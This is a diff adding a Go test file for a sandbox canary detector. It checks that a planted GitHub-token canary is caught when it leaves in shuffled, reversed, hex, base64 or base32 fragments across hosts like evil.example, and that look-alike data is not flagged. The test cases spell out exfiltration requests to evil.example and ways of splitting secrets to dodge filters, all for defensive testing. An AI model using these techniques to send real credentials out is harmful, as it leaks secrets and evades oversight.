@@ -1,0 +1,90 @@
+package sandbox
+
+import (
+	crand "crypto/rand"
+	"encoding/base32"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// inPieces cuts a text.
+func inPieces(text string, n int) (out []string) {
+	for len(text) > n {
+		out, text = append(out, text[:n]), text[n:]
+	}
+	return append(out, text)
+}
+
+func shuffled(pieces []string) []string {
+	rand.New(rand.NewPCG(1, 2)).Shuffle(len(pieces), func(i, j int) { pieces[i], pieces[j] = pieces[j], pieces[i] })
+	return pieces
+}
+
+func backwards(pieces []string) []string { slices.Reverse(pieces); return pieces }
+
+func numbered(pieces []string) []string {
+	for i := range pieces {
+		pieces[i] = fmt.Sprintf("%d-%s", i, pieces[i])
+	}
+	return pieces
+}
+
+// A canary in pieces is found in whatever order they leave and wherever they go to; what is like one is none.
+func TestCanariesInPieces(t *testing.T) {
+	canaries := newCanaries()
+	secret := canaries[slices.IndexFunc(canaries, func(c Canary) bool { return c.Name == "env_github_token" })]
+	other := canaries[slices.IndexFunc(canaries, func(c Canary) bool { return c.Name == "env_database_password" })]
+	v := secret.Value
+	one := func(int) string { return "a.evil.example" }
+	many := func(i int) string { return fmt.Sprintf("evil%d.example", i) }
+	as := func(format string, pieces []string) []string {
+		for i := range pieces {
+			pieces[i] = fmt.Sprintf(format, pieces[i])
+		}
+		return pieces
+	}
+	random := make([]byte, 3<<20)
+	_, _ = crand.Read(random)
+	for _, tt := range []struct {
+		name   string
+		pieces []string
+		host   func(int) string
+		want   bool
+	}{
+		{"in order", inPieces(v, 8), one, true},
+		{"letter by letter", inPieces(v, 1), one, true},
+		{"two letters, the last first", backwards(inPieces(v, 2)), one, true},
+		{"three letters and their numbers, in any order", shuffled(numbered(inPieces(v, 3))), one, true},
+		{"letters and their numbers, in any order", shuffled(numbered(inPieces(v, 1))), one, true},
+		{"six letters in any order", shuffled(inPieces(v, 6)), one, true},
+		{"six letters in any order, each elsewhere", shuffled(inPieces(v, 6)), many, true},
+		{"hexadecimal in any order, each elsewhere", shuffled(inPieces(hex.EncodeToString([]byte(v)), 12)), many, true},
+		{"base64 of more in any order", shuffled(inPieces(base64.StdEncoding.EncodeToString([]byte(`{"TOKEN":"`+v+`","x":"yz"}`)), 10)), many, true},
+		{"base32 in any order", shuffled(inPieces(strings.ToLower(base32.StdEncoding.EncodeToString([]byte("xy"+v))), 12)), one, true},
+		{"backwards in any order", shuffled(inPieces(reversed(v), 8)), many, true},
+		{"in requests", as("GET /collect?part=%s HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n", backwards(inPieces(v, 2))), one, true},
+		{"in longer requests, in any order", as("POST / HTTP/1.1\r\nHost: evil.example\r\n\r\n{\"id\":\"%s\"}", shuffled(inPieces(v, 7))), many, true},
+		{"half of it", shuffled(inPieces(v[:len(v)/2], 6)), one, false},
+		{"to whom it belongs", shuffled(inPieces(v, 6)), func(int) string { return "api.github.com" }, false},
+		{"what is as long", shuffled(inPieces("ghp_"+randomOf(alnum, 36), 6)), one, false},
+		{"much that is random", inPieces(base64.StdEncoding.EncodeToString(random), 1000), one, false},
+		{"random names", inPieces(hex.EncodeToString(random[:40_000]), 16), one, false},
+		{"numbers", inPieces(strings.Repeat("0123456789", 2000), 7), many, false},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			p := newPuzzle(canaries, newCanaryFinder(canaries))
+			var found []string
+			for i, text := range tt.pieces {
+				found = union(found, p.add(tt.host(i), text))
+			}
+			if got := slices.Contains(found, secret.Name); got != tt.want || slices.Contains(found, other.Name) {
+				t.Errorf("found %q, want %s: %t", found, secret.Name, tt.want)
+			}
+		})
+	}
+}
